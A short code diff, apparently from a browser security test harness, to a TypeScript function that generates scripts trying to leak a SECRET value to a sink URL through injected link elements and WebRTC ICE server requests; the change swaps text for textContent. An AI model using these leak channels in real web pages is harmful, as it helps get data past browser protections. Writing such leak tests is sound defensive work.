@@ -46,7 +46,7 @@ function toScript({ way, sink }: Attempt, secret: string): string {
     `{ const SECRET = ${JSON.stringify(secret)}, url = ${JSON.stringify(toUrl(sink, secret))};`,
     `const link = function (rel, more) { const l = document.createElement("link"); Object.assign(l, more); l.rel = rel; l.href = url; document.head.append(l); };`,
     `const rtc = function (w) { const c = new w.RTCPeerConnection({ iceServers: ${ice} }); c.createDataChannel("x"); c.createOffer().then(function (o) { return c.setLocalDescription(o); }); };`,
-    `const inner = "\\u003cbody>\\u003cscript>" + document.currentScript.text.split("/*--*" + "/")[0] + " rtc(window) }\\u003c/script\u003e";`,
+    `const inner = "\\u003cbody>\\u003cscript>" + document.currentScript.textContent.split("/*--*" + "/")[0] + " rtc(window) }\\u003c/script\u003e";`,
     `/*--*/ ${way.script ?? ""} }`,
   ].join("\n");
 }
